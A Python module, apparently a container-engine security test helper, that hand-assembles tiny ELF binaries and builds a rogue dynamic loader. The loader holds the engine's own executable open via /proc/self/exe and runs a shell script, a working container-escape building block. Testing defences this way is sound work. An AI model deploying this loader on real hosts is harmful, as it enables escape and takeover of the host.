"""Programs of a few instructions, written as bytes: what an attacker would bring along.

They need no compiler and no C library, so they run in an image that has nothing else.
"""

from __future__ import annotations

import platform
import struct
from typing import Final

IS_X86_64: Final = platform.machine() == "x86_64"

# x86-64 system call numbers
OPEN: Final = 2
SOCKET: Final = 41
DUP2: Final = 33
EXECVE: Final = 59
EXIT: Final = 60

_CODE: Final = 0x78  # behind the ELF header and one program header


def program(code: bytes, data: bytes) -> bytes:
    """A position-independent ELF file: `code` at its entry, `data` right behind it."""
    size = _CODE + len(code) + len(data)
    header = struct.pack(
        "<16sHHIQQQIHHHHHH",
        b"\x7fELF\x02\x01\x01",
        3,  # ET_DYN: loadable as a program and as a dynamic loader
        62,  # EM_X86_64
        1,
        _CODE,
        64,
        0,
        0,
        64,
        56,
        1,
        0,
        0,
        0,
    )
    segment = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, size, size, 0x1000)
    return header + segment + code + data


class Assembler:
    """System calls with constant arguments; `text` returns an operand that is a string."""

    def __init__(self) -> None:
        self._code = bytearray()
        self._texts: list[tuple[int, bytes]] = []

    def load(self, register: str, value: int) -> None:
        prefix = {"rax": 0xB8, "rdi": 0xBF, "rsi": 0xBE, "rdx": 0xBA}[register]
        self._code += struct.pack("<Bi", prefix, value)

    def load_text(self, register: str, text: str) -> None:
        """lea register, [rip + offset], which `build` fills in."""
        modrm = {"rax": 0x05, "rdi": 0x3D, "rsi": 0x35, "rdx": 0x15}[register]
        self._code += struct.pack("<BBB", 0x48, 0x8D, modrm)
        self._texts.append((len(self._code), text.encode() + b"\0"))
        self._code += bytes(4)

    def raw(self, code: bytes) -> None:
        self._code += code

    def call(self, number: int) -> None:
        self.load("rax", number)
        self._code += b"\x0f\x05"

    def build(self) -> bytes:
        data = bytearray()
        for place, text in self._texts:
            offset = len(self._code) + len(data) - (place + 4)
            struct.pack_into("<i", self._code, place, offset)
            data += text
        return program(bytes(self._code), bytes(data))


def loader_that_keeps_its_executable(fd: int, script: str) -> bytes:
    """A dynamic loader that opens the program it was to load and runs `sh script` with it open.

    In a process of the engine that executes /proc/self/exe that is the engine's own executable.
    """
    asm = Assembler()
    asm.load_text("rdi", "/proc/self/exe")
    asm.load("rsi", 0)
    asm.call(OPEN)
    asm.raw(b"\x89\xc7")  # mov edi, eax
    asm.load("rsi", fd)
    asm.call(DUP2)
    asm.load_text("rdi", "/bin/sh")
    asm.load_text("rax", script)
    asm.raw(b"\x6a\x00\x50\x57")  # push 0; push rax; push rdi: argv
    asm.raw(b"\x48\x89\xe6")  # mov rsi, rsp
    asm.load("rdx", 0)
    asm.call(EXECVE)
    asm.load("rdi", 99)
    asm.call(EXIT)
    return asm.build()
